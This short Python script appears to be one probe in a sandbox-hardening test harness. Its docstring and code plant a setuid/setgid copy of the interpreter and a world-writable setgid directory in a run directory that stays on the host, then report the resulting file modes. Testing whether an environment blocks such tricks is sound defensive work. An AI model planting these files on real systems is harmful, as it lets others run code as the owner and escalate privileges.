"""Leave a set-user-ID and set-group-ID copy of the interpreter in exp/: the run directory
stays on the host, where anyone who can reach it would run code as the experiment's owner."""
import os
import shutil

from attack import A, P


def plant():
    shutil.copyfile(P["binary"], "suid-python")
    os.chmod("suid-python", 0o6755)
    return oct(os.stat("suid-python").st_mode)


def sgid_dir():
    os.mkdir("sgid-dir")
    os.chmod("sgid-dir", 0o2777)
    return oct(os.stat("sgid-dir").st_mode)


A.attempt("setuid_copy", plant)
A.attempt("setgid_dir", sgid_dir)
A.finish()
